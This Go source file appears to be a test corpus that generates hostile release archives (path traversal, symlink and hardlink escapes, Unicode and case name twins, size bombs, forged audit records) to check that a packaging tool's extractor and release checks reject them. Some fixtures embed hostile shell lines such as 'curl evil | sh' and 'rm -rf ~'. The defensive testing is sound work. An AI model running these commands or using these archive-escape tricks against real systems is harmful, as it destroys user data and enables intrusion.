package hostile

import (
	"archive/tar"
	"cmp"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"

	"piship.dev/piship/cache/canon"
	"piship.dev/piship/stages/archive"
	"piship.dev/piship/stages/payload"
	"piship.dev/piship/stages/platform"
	"piship.dev/piship/stages/stage/errcode"
)

// Version is the version every case's archive claims to be; the installed
// version that must survive each case is Installed.
const (
	Version   = "1.0.1"
	Installed = "1.0.0"
)

// IntegrityFailed is the code every case of the corpus expects today.
const IntegrityFailed = errcode.IntegrityFailed

// Gen is where a case writes its archive.
type Gen struct {
	// Dir is an empty directory for the case's files; the archive goes
	// there, named <id>-<Version>-<host> + Format.Ext(), with its sidecar.
	Dir string
	// Format is the archive format the case is written in ("": V2, what
	// releases write); TestCorpus runs every case in both.
	Format archive.Format
	// Outside is a directory outside every consumer's target: what a
	// case aims at. Nothing may appear in it.
	Outside string
	// Base is a valid release directory of Version to start from (it is
	// copied, never changed); "" makes one in Dir.
	Base string
}

// base returns a valid release directory of Version the case may change.
func (g *Gen) base(writable bool) (string, error) {
	if g.Base == "" {
		return Release(filepath.Join(g.Dir, "tree"), Version)
	}
	if !writable {
		return g.Base, nil
	}
	dir := filepath.Join(g.Dir, "tree", filepath.Base(g.Base))
	return dir, payload.CopyPath(g.Base, dir)
}

// Case is one hostile archive: what it is, the rule it breaks (a rule of
// stages/release or of stages/archive, as both consumers name it), the
// code both must refuse it with, and how to write it.
type Case struct {
	Name        string
	Description string
	Rule        string
	Code        string
	Make        func(g *Gen) (archivePath string, err error)
}

// caseFormat names the one format a case is about (its compression);
// every other case is run in both.
var caseFormat = map[string]archive.Format{
	"truncated-gzip": archive.V1, "trailing-garbage": archive.V1, "not-gzip": archive.V1,
	"truncated-zstd": archive.V2, "after-seek-table": archive.V2, "index-lies": archive.V2,
}

// Formats are the formats the case is written in.
func (c Case) Formats() []archive.Format {
	if f, ok := caseFormat[c.Name]; ok {
		return []archive.Format{f}
	}
	return []archive.Format{archive.V1, archive.V2}
}

// format is the case's format, V2 when unset.
func (g *Gen) format() archive.Format { return cmp.Or(g.Format, archive.V2) }

// pack writes entries in the case's format: TarGz or TarZst.
func (g *Gen) pack(es []Entry) ([]byte, error) {
	if g.format() == archive.V1 {
		return TarGz(es)
	}
	return TarZst(es)
}

// Tree is a case made by changing a valid release directory: mutate, then
// archive it as piship release does.
func Tree(mutate func(dir string) error) func(*Gen) (string, error) {
	return func(g *Gen) (string, error) {
		dir, err := g.base(true)
		if err != nil {
			return "", err
		}
		if err := mutate(dir); err != nil {
			return "", err
		}
		return ArchiveAs(dir, g.Dir, g.format())
	}
}

// Tar is a case made at the tar level: change the entries of a valid
// release (add, replace, rename), then write them in the case's format
// (Gen.pack: one gzip member, or V2's frames with a true index).
func Tar(mutate func(g *Gen, es []Entry) []Entry) func(*Gen) (string, error) {
	return Raw(func(g *Gen, es []Entry) ([]byte, error) { return g.pack(mutate(g, es)) })
}

// Raw is a case made from a valid release's entries to any bytes.
func Raw(mk func(g *Gen, es []Entry) ([]byte, error)) func(*Gen) (string, error) {
	return func(g *Gen) (string, error) {
		dir, err := g.base(false)
		if err != nil {
			return "", err
		}
		es, err := Entries(dir)
		if err != nil {
			return "", err
		}
		data, err := mk(g, es)
		if err != nil {
			return "", err
		}
		path := filepath.Join(g.Dir, Name(Version)+g.format().Ext())
		if err := write(path, string(data), 0o644); err != nil {
			return "", err
		}
		return path, Sidecar(path, canon.SHA256Hex(data))
	}
}

// insert puts e after the entry named after (the first entry when absent).
func insert(es []Entry, after string, e ...Entry) []Entry {
	i := slices.IndexFunc(es, func(x Entry) bool { return x.Header.Name == after }) + 1
	return slices.Insert(es, i, e...)
}

// EditJSON rewrites the JSON file at path through edit.
func EditJSON(path string, edit func(m map[string]any)) error {
	raw, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	var m map[string]any
	if err := json.Unmarshal(raw, &m); err != nil {
		return err
	}
	edit(m)
	return writeJSON(path, m)
}

func editLock(dir string, edit func(m map[string]any)) error {
	if err := EditJSON(filepath.Join(dir, "payload", "piship.lock"), edit); err != nil {
		return err
	}
	return Reseal(dir, Seal{})
}

func editRelease(dir string, seal Seal, edit func(m map[string]any)) error {
	if err := EditJSON(filepath.Join(dir, "release.json"), edit); err != nil {
		return err
	}
	return Reseal(dir, seal)
}

func obj(m map[string]any, key string) map[string]any { return m[key].(map[string]any) }

func remove(rel string, seal Seal) func(dir string) error {
	return func(dir string) error {
		if err := os.Remove(filepath.Join(dir, filepath.FromSlash(rel))); err != nil {
			return err
		}
		return Reseal(dir, seal)
	}
}

// otherTarget is a target that is not this machine's.
func otherTarget() (plat, arch string) {
	if platform.HostTarget() == "win32-x64" {
		return "linux", "x64"
	}
	return "win32", "x64"
}

// Cases is the corpus. Adding a case is one entry here.
var Cases = []Case{
	// Release rules (stages/release, release.Check).
	{"missing-checksums", "no checksums.txt: nothing binds the release files but release.json itself", "required-files", IntegrityFailed,
		Tree(remove("checksums.txt", Seal{KeepChecksums: true}))},
	{"missing-sbom", "no sbom.spdx.json", "required-files", IntegrityFailed,
		Tree(remove("sbom.spdx.json", Seal{}))},
	{"missing-notices", "no licenses/THIRD_PARTY_NOTICES.txt", "required-files", IntegrityFailed,
		Tree(remove("licenses/THIRD_PARTY_NOTICES.txt", Seal{}))},
	{"missing-target", "no payload/metadata/target.json (the inventory resealed without it)", "required-files", IntegrityFailed,
		Tree(remove("payload/metadata/target.json", Seal{}))},
	{"wrong-checksum", "checksums.txt gives the SBOM another digest", "checksums", IntegrityFailed,
		Tree(func(dir string) error {
			p := filepath.Join(dir, "checksums.txt")
			raw, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			lines := strings.Split(string(raw), "\n")
			for i, l := range lines {
				if strings.HasSuffix(l, "  sbom.spdx.json") {
					lines[i] = strings.Repeat("0", 64) + "  sbom.spdx.json"
				}
			}
			return os.WriteFile(p, []byte(strings.Join(lines, "\n")), 0o644)
		})},
	{"file-not-in-checksums", "a release file checksums.txt does not list", "checksums", IntegrityFailed,
		Tree(func(dir string) error {
			return write(filepath.Join(dir, "README.txt"), "unlisted\n", 0o644)
		})},
	{"checksums-unsorted", "checksums.txt lines out of path order (what piship never writes)", "checksums", IntegrityFailed,
		Tree(func(dir string) error {
			p := filepath.Join(dir, "checksums.txt")
			raw, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			lines := strings.Split(strings.TrimSuffix(string(raw), "\n"), "\n")
			slices.Reverse(lines)
			return os.WriteFile(p, []byte(strings.Join(lines, "\n")+"\n"), 0o644)
		})},
	{"release-json-unqualified", "release.json says qualification unqualified-local", "release-json", IntegrityFailed,
		Tree(func(dir string) error {
			return editRelease(dir, Seal{}, func(m map[string]any) { m["qualification"] = "unqualified-local" })
		})},
	{"release-json-audits-never-ran", "release.json says the package audits passed with no package lock read", "release-json", IntegrityFailed,
		Tree(func(dir string) error {
			return editRelease(dir, Seal{}, func(m map[string]any) { m["packageAudits"] = map[string]any{"verdict": "passed", "locks": 0} })
		})},
	{"release-json-unknown-field", "release.json carries a field piship-release/v1 does not have", "release-json", IntegrityFailed,
		Tree(func(dir string) error {
			return editRelease(dir, Seal{KeepRelease: true}, func(m map[string]any) { m["postinstall"] = "curl evil | sh" })
		})},
	{"inventory-outside-payload", "the inventory lists ../release.json: a file outside payload/", "inventory-path", IntegrityFailed,
		Tree(func(dir string) error {
			return editInventory(dir, func(inv map[string]string) error {
				raw, err := os.ReadFile(filepath.Join(dir, "release.json"))
				inv["../release.json"] = canon.SHA256Hex(raw)
				return err
			})
		})},
	{"inventory-absolute", "the inventory lists /etc/passwd", "inventory-path", IntegrityFailed,
		Tree(func(dir string) error {
			return editInventory(dir, func(inv map[string]string) error {
				inv["/etc/passwd"] = strings.Repeat("a", 64)
				return nil
			})
		})},
	{"extra-payload-file", "a payload file the inventory does not list", "payload-inventory", IntegrityFailed,
		Tree(func(dir string) error {
			if err := write(filepath.Join(dir, "payload", "node_modules", "x", "evil.js"), "process.exit(66)\n", 0o644); err != nil {
				return err
			}
			return Reseal(dir, Seal{KeepInventory: true})
		})},
	{"missing-payload-file", "a file the inventory lists is not in the payload", "payload-inventory", IntegrityFailed,
		Tree(remove("payload/bin/"+Command, Seal{KeepInventory: true}))},
	{"changed-payload-file", "the entry's bytes differ from the inventory's digest", "payload-inventory", IntegrityFailed,
		Tree(func(dir string) error {
			return write(filepath.Join(dir, "payload", "node_modules", "x", "cli.js"), "process.exit(66)\n", 0o644)
		})},
	{"lock-unreadable", "payload/piship.lock is not a lock", "lock", IntegrityFailed,
		Tree(func(dir string) error {
			if err := write(filepath.Join(dir, "payload", "piship.lock"), "{\"schema\": \"piship-lock/v0\"}\n", 0o644); err != nil {
				return err
			}
			return Reseal(dir, Seal{})
		})},
	{"lock-entry-traversal", "the lock's entry is ../../x: launch would run a file outside the payload", "lock-entry", IntegrityFailed,
		Tree(func(dir string) error {
			return editLock(dir, func(m map[string]any) { obj(m, "runtime")["entry"] = "../../x" })
		})},
	{"lock-entry-absolute", "the lock's entry is an absolute path", "lock-entry", IntegrityFailed,
		Tree(func(dir string) error {
			return editLock(dir, func(m map[string]any) { obj(m, "runtime")["entry"] = "/etc/passwd" })
		})},
	{"lock-entry-missing", "the lock's entry is not in the payload", "lock-entry", IntegrityFailed,
		Tree(func(dir string) error {
			return editLock(dir, func(m map[string]any) { obj(m, "runtime")["entry"] = "node_modules/x/gone.js" })
		})},
	{"lock-command-path", "the lock's command is ../../bin/sh: the shim would land outside the bin home", "lock-entry", IntegrityFailed,
		Tree(func(dir string) error {
			return editLock(dir, func(m map[string]any) { obj(m, "distribution")["command"] = "../../bin/sh" })
		})},
	{"binding-inventory-digest", "release.json binds another inventory digest", "release-matches-payload", IntegrityFailed,
		Tree(func(dir string) error {
			return editRelease(dir, Seal{KeepRelease: true}, func(m map[string]any) {
				obj(m, "payload")["inventorySha256"] = strings.Repeat("0", 64)
			})
		})},
	{"identity-release-version", "release.json is 1.0.2 in an archive named 1.0.1", "identity", IntegrityFailed,
		Tree(func(dir string) error {
			return editRelease(dir, Seal{}, func(m map[string]any) { obj(m, "distribution")["version"] = "1.0.2" })
		})},
	{"identity-lock-version", "the lock is of 1.0.2, release.json and the name say 1.0.1", "identity", IntegrityFailed,
		Tree(func(dir string) error {
			return editLock(dir, func(m map[string]any) { obj(m, "distribution")["version"] = "1.0.2" })
		})},
	{"identity-lock-id", "the lock is of another distribution", "identity", IntegrityFailed,
		Tree(func(dir string) error {
			return editLock(dir, func(m map[string]any) { obj(m, "distribution")["id"] = "other" })
		})},
	{"identity-target", "payload/metadata/target.json names another platform than release.json and the name", "identity", IntegrityFailed,
		Tree(func(dir string) error {
			plat, arch := otherTarget()
			if err := writeJSON(filepath.Join(dir, "payload", "metadata", "target.json"), map[string]string{"platform": plat, "arch": arch}); err != nil {
				return err
			}
			return Reseal(dir, Seal{})
		})},
	{"identity-command", "the lock names another command than release.json", "identity", IntegrityFailed,
		Tree(func(dir string) error {
			return editLock(dir, func(m map[string]any) { obj(m, "distribution")["command"] = "other" })
		})},

	{"sbom-wrong-digest", "release.json binds another SBOM digest than sbom.spdx.json's", "sbom-matches-payload", IntegrityFailed,
		Tree(func(dir string) error {
			return editRelease(dir, Seal{KeepRelease: true}, func(m map[string]any) { obj(m, "sbom")["sha256"] = strings.Repeat("0", 64) })
		})},
	{"sbom-empty", "an SBOM of {} that release.json binds, with 0 packages: the payload's locked package is in no SBOM", "sbom-matches-payload", IntegrityFailed,
		Tree(func(dir string) error {
			if err := write(filepath.Join(dir, "sbom.spdx.json"), "{}\n", 0o644); err != nil {
				return err
			}
			return editRelease(dir, Seal{}, func(m map[string]any) { obj(m, "sbom")["packages"] = 0 })
		})},
	{"sbom-path-outside", "release.json's sbom.path is ../../../../etc/passwd", "sbom-matches-payload", IntegrityFailed,
		Tree(func(dir string) error {
			return editRelease(dir, Seal{}, func(m map[string]any) { obj(m, "sbom")["path"] = "../../../../etc/passwd" })
		})},
	{"notices-empty", "empty notices: an index of no package and no text", "notices-cover-sbom", IntegrityFailed,
		Tree(func(dir string) error {
			if err := write(filepath.Join(dir, "licenses", "index.json"), `{"packages":[],"withoutLicenseFile":[]}`+"\n", 0o644); err != nil {
				return err
			}
			if err := write(filepath.Join(dir, "licenses", "THIRD_PARTY_NOTICES.txt"), "", 0o644); err != nil {
				return err
			}
			return Reseal(dir, Seal{})
		})},
	{"notices-text-empty", "the index covers the SBOM, and the notices text names no package", "notices-cover-sbom", IntegrityFailed,
		Tree(func(dir string) error {
			if err := write(filepath.Join(dir, "licenses", "THIRD_PARTY_NOTICES.txt"), "Third-party notices\n", 0o644); err != nil {
				return err
			}
			return Reseal(dir, Seal{})
		})},
	{"vuln-verdict-lies", "vulnerabilities.json lists 3 critical and 2 high findings with verdict passed under failOn high", "vulnerabilities", IntegrityFailed,
		Tree(func(dir string) error {
			return editAudit(dir, func(r map[string]any) {
				var fs []any
				for i, sev := range []string{"critical", "critical", "critical", "high", "high"} {
					fs = append(fs, map[string]any{"id": fmt.Sprintf("GHSA-%04d", i), "package": "x", "version": "1.0.0", "severity": sev, "fails": true})
				}
				r["findings"] = fs
				r["counts"] = map[string]any{"low": 0, "moderate": 0, "high": 2, "critical": 3}
			})
		})},
	{"vuln-allowed-unlisted", "a critical finding says allowed, and the lock allows no advisory", "vulnerabilities", IntegrityFailed,
		Tree(func(dir string) error {
			return editAudit(dir, func(r map[string]any) {
				r["findings"] = []any{map[string]any{"id": "GHSA-0000", "package": "x", "version": "1.0.0", "severity": "critical", "allowed": true, "fails": false}}
				r["counts"] = map[string]any{"low": 0, "moderate": 0, "high": 0, "critical": 1}
			})
		})},
	{"vuln-verdict-failed", "vulnerabilities.json and release.json agree on verdict failed", "vulnerabilities", IntegrityFailed,
		Tree(func(dir string) error {
			return editAudit(dir, func(r map[string]any) {
				r["findings"] = []any{map[string]any{"id": "GHSA-0000", "package": "x", "version": "1.0.0", "severity": "high", "fails": true}}
				r["counts"] = map[string]any{"low": 0, "moderate": 0, "high": 1, "critical": 0}
				r["verdict"] = "failed"
			})
		})},
	{"tests-failed", "release.json records a failed smoke test", "tests", IntegrityFailed,
		Tree(func(dir string) error {
			return editRelease(dir, Seal{}, func(m map[string]any) { m["tests"] = []any{map[string]any{"name": "version", "result": "failed"}} })
		})},
	{"signatures-failed", "release.json records the signature verdict failed", "signatures", IntegrityFailed,
		Tree(func(dir string) error {
			return editRelease(dir, Seal{}, func(m map[string]any) { obj(m, "signatures")["verdict"] = "failed" })
		})},

	// Archive rules (stages/archive, archive.Extract).
	{"dotdot-name", "a tar name with .. segments: payload/../../evil.txt", "dot-segment", IntegrityFailed,
		Tar(func(g *Gen, es []Entry) []Entry {
			return insert(es, "payload/", File("payload/../../evil.txt", "evil"))
		})},
	{"absolute-name", "a tar name that is an absolute path into the directory outside", "absolute-path", IntegrityFailed,
		Tar(func(g *Gen, es []Entry) []Entry {
			return insert(es, "payload/", File(filepath.ToSlash(filepath.Join(g.Outside, "evil.txt")), "evil"))
		})},
	{"backslash-name", `a tar name with backslashes: payload\..\..\evil.txt`, "backslash", IntegrityFailed,
		Tar(func(g *Gen, es []Entry) []Entry {
			return insert(es, "payload/", File(`payload\..\..\evil.txt`, "evil"))
		})},
	{"reserved-name", "a name Windows reserves: payload/con.txt", "reserved-name", IntegrityFailed,
		Tar(func(g *Gen, es []Entry) []Entry { return insert(es, "payload/", File("payload/con.txt", "x")) })},
	{"case-twins", "payload/Evil.txt beside payload/evil.txt: one file on a case-insensitive file system (macOS, Windows)", "name-collision", IntegrityFailed,
		Tar(func(g *Gen, es []Entry) []Entry {
			return insert(es, "payload/", File("payload/Evil.txt", "a"), File("payload/evil.txt", "b"))
		})},
	{"nfc-nfd-twins", "payload/caf\u00e9.txt (NFC) beside payload/cafe\u0301.txt (NFD): one file where names are normalised (macOS)", "name-collision", IntegrityFailed,
		Tar(func(g *Gen, es []Entry) []Entry {
			return insert(es, "payload/", File("payload/caf\u00e9.txt", "a"), File("payload/cafe\u0301.txt", "b"))
		})},
	{"trailing-dot", "payload/evil. : Windows drops the dot, so it lands on payload/evil", "trailing-dot-space", IntegrityFailed,
		Tar(func(g *Gen, es []Entry) []Entry { return insert(es, "payload/", File("payload/evil.", "x")) })},
	{"trailing-space", "a name ending in a space (payload/evil + space): Windows drops it", "trailing-dot-space", IntegrityFailed,
		Tar(func(g *Gen, es []Entry) []Entry { return insert(es, "payload/", File("payload/evil ", "x")) })},
	{"declared-bomb", "a declaration of 1 file of 4 bytes before the whole release: extraction must stop at the first entry beyond it", "declared", IntegrityFailed,
		Tar(func(g *Gen, es []Entry) []Entry {
			decl := Entry{Header: tar.Header{Typeflag: tar.TypeXGlobalHeader, Name: "pax_global_header",
				PAXRecords: map[string]string{"comment": `{"schema":"piship-archive/v1","files":1,"dirs":0,"bytes":4}`}}}
			return append([]Entry{decl}, es...)
		})},
	{"symlink-escape", "a symlink to the directory outside, then a file through it", "entry-type", IntegrityFailed,
		Tar(func(g *Gen, es []Entry) []Entry {
			link := Entry{Header: tar.Header{Typeflag: tar.TypeSymlink, Name: "payload/out", Linkname: g.Outside, Mode: 0o777}}
			return insert(es, "payload/", link, File("payload/out/evil.txt", "evil"))
		})},
	{"symlink-relative", "a symlink ../../../.. out of the target", "entry-type", IntegrityFailed,
		Tar(func(g *Gen, es []Entry) []Entry {
			link := Entry{Header: tar.Header{Typeflag: tar.TypeSymlink, Name: "payload/up", Linkname: "../../../../../..", Mode: 0o777}}
			return insert(es, "payload/", link)
		})},
	{"hardlink-outside", "a hardlink to a file outside the target", "entry-type", IntegrityFailed,
		Tar(func(g *Gen, es []Entry) []Entry {
			link := Entry{Header: tar.Header{Typeflag: tar.TypeLink, Name: "payload/secret", Linkname: filepath.ToSlash(filepath.Join(g.Outside, "secret"))}}
			return insert(es, "payload/", link)
		})},
	{"char-device", "a character device entry", "entry-type", IntegrityFailed,
		Tar(func(g *Gen, es []Entry) []Entry {
			return insert(es, "payload/", Entry{Header: tar.Header{Typeflag: tar.TypeChar, Name: "payload/null", Devmajor: 1, Devminor: 3, Mode: 0o666}})
		})},
	{"fifo", "a named pipe entry", "entry-type", IntegrityFailed,
		Tar(func(g *Gen, es []Entry) []Entry {
			return insert(es, "payload/", Entry{Header: tar.Header{Typeflag: tar.TypeFifo, Name: "payload/pipe", Mode: 0o644}})
		})},
	{"duplicate-entry", "release.json twice: the second copy would win on a naive extractor", "duplicate", IntegrityFailed,
		Tar(func(g *Gen, es []Entry) []Entry {
			return append(es, File("release.json", "{}\n"))
		})},
	{"oversized-entry", "a header declaring 3 GiB (over the 2 GiB limit) with no data behind it", "max-bytes", IntegrityFailed,
		Tar(func(g *Gen, es []Entry) []Entry {
			big := File("payload/node_modules/x/big.bin", "")
			big.Header.Size = 3 << 30
			return insert(es, "payload/", big)
		})},
	{"truncated-gzip", "a valid archive cut at two thirds", "truncated", IntegrityFailed,
		Raw(func(g *Gen, es []Entry) ([]byte, error) {
			gz, err := TarGz(es)
			return gz[:len(gz)*2/3], err
		})},
	{"trailing-garbage", "bytes after the gzip stream", "trailing-data", IntegrityFailed,
		Raw(func(g *Gen, es []Entry) ([]byte, error) {
			gz, err := TarGz(es)
			return append(gz, "#!/bin/sh\nrm -rf ~\n"...), err
		})},
	{"not-gzip", "a plain tar where a tar.gz belongs", "gzip", IntegrityFailed,
		Raw(func(g *Gen, es []Entry) ([]byte, error) {
			gz, err := TarGz(es)
			if err != nil {
				return nil, err
			}
			return gz[10:], nil // the deflate data without the gzip header
		})},
	{"truncated-zstd", "a valid V2 archive cut inside its last frame", "truncated", IntegrityFailed,
		Raw(func(g *Gen, es []Entry) ([]byte, error) {
			zs, err := TarZst(es)
			return zs[:len(zs)-40], err
		})},
	{"after-seek-table", "bytes after the seek table, which must be last", "seek-table", IntegrityFailed,
		Raw(func(g *Gen, es []Entry) ([]byte, error) {
			zs, err := TarZst(es)
			return append(zs, "#!/bin/sh\nrm -rf ~\n"...), err
		})},
	{"index-lies", "the index gives release.json the SHA-256 of other bytes", "index", IntegrityFailed,
		Raw(func(g *Gen, es []Entry) ([]byte, error) { return tarZst(es, "release.json") })},
}

// editAudit rewrites vulnerabilities.json through edit and makes
// release.json say what it says (verdict, failOn, counts), as a release
// whose audit was forged whole would.
func editAudit(dir string, edit func(r map[string]any)) error {
	p := filepath.Join(dir, "vulnerabilities.json")
	if err := EditJSON(p, edit); err != nil {
		return err
	}
	raw, err := os.ReadFile(p)
	if err != nil {
		return err
	}
	var r map[string]any
	if err := json.Unmarshal(raw, &r); err != nil {
		return err
	}
	return editRelease(dir, Seal{}, func(m map[string]any) {
		v := obj(m, "vulnerabilities")
		v["verdict"], v["failOn"], v["counts"] = r["verdict"], r["failOn"], r["counts"]
	})
}

func editInventory(dir string, edit func(inv map[string]string) error) error {
	p := filepath.Join(dir, "payload", "metadata", "inventory.json")
	raw, err := os.ReadFile(p)
	if err != nil {
		return err
	}
	var inv map[string]string
	if err := json.Unmarshal(raw, &inv); err != nil {
		return err
	}
	if err := edit(inv); err != nil {
		return err
	}
	if err := writeJSON(p, inv); err != nil {
		return err
	}
	return Reseal(dir, Seal{KeepInventory: true})
}

// WriteAll writes every case's archive into <dir>/<case name>/ (and the
// directory the cases aim at, <dir>/outside).
func WriteAll(dir string) error {
	base, err := Release(filepath.Join(dir, "base"), Version)
	if err != nil {
		return err
	}
	for _, c := range Cases {
		g := &Gen{Dir: filepath.Join(dir, c.Name), Outside: filepath.Join(dir, "outside"), Base: base}
		if _, err := c.Make(g); err != nil {
			return fmt.Errorf("%s: %v", c.Name, err)
		}
		if err := os.RemoveAll(filepath.Join(g.Dir, "tree")); err != nil {
			return err
		}
	}
	return nil
}
